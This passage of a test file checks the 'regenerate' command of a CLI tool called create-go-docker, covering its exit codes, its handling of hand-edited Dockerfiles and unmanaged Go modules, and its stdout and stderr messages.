      expect(listed.stdout).toContain(
        'unmanaged    libs/util: go.mod without .go-docker.yaml; run create-go-docker libs/util to manage it\nunmanaged   ' +
          ' services/up/tools: go.mod without .go-docker.yaml; run create-go-docker services/up/tools to manage it\n7 modules:',
      );

      // What --check said is what regenerate does: the drift is applied, the hand edit refused.
      const applied = await runCli(['regenerate', '--recursive'], { cwd: root });
      expect(applied.code).toBe(1);
      expect(applied.stdout).toContain('updated      services/drift: Dockerfile, .go-docker.yaml\n');
      expect(applied.stdout).toContain('hand-edit    services/edited: Dockerfile edited by hand');
      expect(applied.stderr).toBe(
        'create-go-docker: services/edited/Dockerfile: edited by hand since create-go-docker wrote it (outside its custom blocks); ' +
          'not overwritten: see your edits with create-go-docker regenerate --diff, move them into a custom block, ' +
          'or rerun with --force to replace it (kept as Dockerfile.orig).\n',
      );
      expect(applied.stdout).toContain('7 modules: 5 managed (3 up to date, 1 updated, 1 hand edit), 2 unmanaged.');
      expect(read(root, 'services/edited/Dockerfile')).toContain('RUN echo mine');

      // --diff shows without failing, as diff does; a forced regenerate leaves nothing to attend to.
      expect((await runCli(['regenerate', '--diff', '--recursive'], { cwd: root })).code).toBe(0);
      expect((await runCli(['regenerate', '--force', 'services/edited'], { cwd: root })).code).toBe(0);
      const clean = await runCli(['regenerate', '--check', '--recursive'], { cwd: root });
      expect(clean.code, clean.stdout).toBe(0);
      expect(clean.stdout.trimEnd().split('\n').at(-1)).toBe('7 modules: 5 managed (5 up to date), 2 unmanaged.');
    },
  );

  it('a tree with Go modules but no .go-docker.yaml is "nothing to do": exit 3, the count, one line on stderr', async () => {
    const root = makeProject({});
    place(root, 'a', service('a'));
    place(root, 'b', service('b'));
    const result = await runCli(['regenerate', '--check', '--recursive', '--include-unmanaged'], { cwd: root });
    expect(result.code).toBe(3);
    expect(result.stdout).toBe(
      'unmanaged    a: go.mod without .go-docker.yaml; run create-go-docker a to manage it\nunmanaged    b: go.mod ' +
        'without .go-docker.yaml; run create-go-docker b to manage it\n2 modules: 0 managed, 2 unmanaged.\n',
    );
    expect(result.stderr).toBe(
      'create-go-docker: .: no .go-docker.yaml below it (2 Go modules, none managed); run create-go-docker in each project first.\n',
    );
    // One project: the same code, for the same reason.
    const one = await runCli(['regenerate', '--check', 'a'], { cwd: root });
    expect(one.code).toBe(3);
    expect(one.stderr).toBe(
      'create-go-docker: a: no .go-docker.yaml here; run create-go-docker there first, or give the directory that holds it.\n',
    );
  });

  it('--include-unmanaged without --recursive is a usage error', async () => {
    const result = await runCli(['regenerate', '--include-unmanaged'], { cwd: makeProject({}) });
    expect(result.code).toBe(2);
    expect(result.stderr).toBe(
      'create-go-docker: regenerate: --include-unmanaged lists the Go modules a --recursive walk finds; add --recursive.\n',
    );
  });
});
